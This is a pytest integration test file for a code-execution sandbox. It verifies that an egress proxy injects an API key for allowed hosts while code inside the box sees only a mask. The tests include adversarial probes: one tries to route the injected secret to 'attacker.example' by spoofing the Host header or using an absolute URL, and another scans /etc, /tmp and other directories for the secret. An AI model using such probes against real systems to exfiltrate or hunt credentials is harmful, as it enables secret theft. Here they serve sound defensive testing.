"""Credential injection: the fake API gets the secret header; the box never holds the secret,
not even from an API that echoes the request back (it reads the same-length mask instead)."""

from __future__ import annotations

import json

import pytest

from tests.conftest import require

from .conftest import audited

SECRET = "sk-live-4f1d0c9e7b2a-SECRET"
MASK = "*" * len(SECRET)

PY = """
import json, urllib.request
def main(url):
    req = urllib.request.Request(url, headers={"X-Api-Key": "placeholder"})
    with urllib.request.urlopen(req, timeout=10) as r:   # default trust store: no cafile given
        return json.loads(r.read())
"""
NODE = """
async function main(a) { const r = await fetch(a.url); return await r.json(); }
"""
OTHER_HOST = """
import http.client, json
def main(api, other):
    out = {}
    c = http.client.HTTPSConnection(api, timeout=10)
    c.putrequest("GET", "/h", skip_host=True); c.putheader("Host", other); c.endheaders()
    out["host_header"] = json.loads(c.getresponse().read())
    c = http.client.HTTPSConnection(api, timeout=10)
    c.request("GET", f"https://{other}/collect")
    r = c.getresponse()
    out["absolute"] = [r.status, r.read().decode()]
    return out
"""
LEAK = """
import os
hits = [k for k, v in os.environ.items() if "{s}" in v]
for root in ("/workspace", "/tmp", "/etc", "/opt"):
    for d, _, files in os.walk(root):
        for f in files:
            try:
                with open(os.path.join(d, f), "rb") as fh:
                    if b"{s}" in fh.read(): hits.append(os.path.join(d, f))
            except OSError: pass
print(hits)
"""


@pytest.fixture
def upstream_ca(fakenet, monkeypatch):
    monkeypatch.setenv("EXECBOX_EGRESS_UPSTREAM_CA", fakenet.ca_file)


def _config(fakenet):
    api = fakenet.name("api")
    return api, {"network": "allowlist", "network_allow": [api, fakenet.name("www")],
                 "network_credentials": json.dumps({api: {"X-Api-Key": SECRET}})}


def _sent(fakenet, path):
    """The headers of the last request for ``path`` the fake API read."""
    return [x for x in fakenet.received(path) if x["path"] == path][-1]["headers"]


def _check(p, iid, fakenet, api):
    r = p.execute_code(iid, PY, "python", 30, {"url": f"https://{api}/v1/models"})
    assert r.exit_code == 0, r
    # the API got the secret and echoed it; the box reads the mask
    assert r.result["headers"]["X-Api-Key"] == MASK and r.result["tls"] is True, r.result
    assert _sent(fakenet, "/v1/models")["X-Api-Key"] == SECRET
    r = p.execute_code(iid, NODE, "javascript", 30, {"url": f"https://{api}/node"})
    assert r.result and r.result["headers"]["X-Api-Key"] == MASK, r
    sent = _sent(fakenet, "/node")
    assert sent["X-Api-Key"] == SECRET and sent["Accept-Encoding"] == "identity", sent  # fetch asks for gzip
    # a host without credentials is not intercepted: its own certificate, no header
    r = p.execute_code(iid, PY, "python", 30, {"url": f"https://{fakenet.name('www')}/"})
    assert "CERTIFICATE_VERIFY_FAILED" in r.stderr, r  # the fake CA is not in the box's trust store
    # the box cannot send the secret to another site behind the same front end (Host, absolute URL)
    r = p.execute_code(iid, OTHER_HOST, "python", 30, {"api": api, "other": "attacker.example"})
    assert r.exit_code == 0, r
    assert r.result["host_header"]["host"] == api and r.result["host_header"]["path"] == "/h", r.result
    assert r.result["absolute"][0] == 400 and "another host" in r.result["absolute"][1], r.result
    r = p.execute_code(iid, LEAK.replace("{s}", SECRET[:20]), "python", 60)
    assert r.stdout.strip() == "[]", r
    assert SECRET not in json.dumps(p.effective_network(iid))
    recs = audited(lambda x: x.injected and x.host == api, decision="allowed")
    assert any(x.injected and x.host == api for x in recs)


def test_jail_credential_injection(fakenet, upstream_ca):
    from tests.integration.jail.conftest import make_provider

    api, cfg = _config(fakenet)
    p = make_provider(**cfg)
    try:
        iid = p.create_instance().instance_id
        _check(p, iid, fakenet, api)
        r = p.run_command(iid, f"curl -sS -m 8 https://{api}/curl", 30)
        assert json.loads(r.stdout)["headers"]["X-Api-Key"] == MASK, r
        assert SECRET not in r.stdout and _sent(fakenet, "/curl")["X-Api-Key"] == SECRET
    finally:
        p.shutdown()


@pytest.mark.parametrize("runtime", ["runc", "runsc"])
def test_docker_credential_injection(fakenet, upstream_ca, docker_engine, runtime):
    from execbox.providers.docker import NET_RUNTIME, DockerProvider

    if runtime == "runsc":
        require(NET_RUNTIME in (docker_engine.info().get("Runtimes") or {}), "the runsc-net Docker runtime")
    api, cfg = _config(fakenet)
    p = DockerProvider()
    p.initialize({"runtime": runtime, "pool_size": 0, "preload": "none", **cfg})
    try:
        iid = p.create_instance().instance_id
        _check(p, iid, fakenet, api)
    finally:
        p.shutdown()


def test_credentials_need_an_allowed_exact_host(fakenet):
    from execbox.errors import InvalidConfigError
    from tests.integration.jail.conftest import make_provider

    with pytest.raises(InvalidConfigError) as e:
        make_provider(network="allowlist", network_allow=["*.x.test"],
                      network_credentials=json.dumps({"other.test": {"X-Api-Key": SECRET}}))
    assert SECRET not in str(e.value.to_dict())
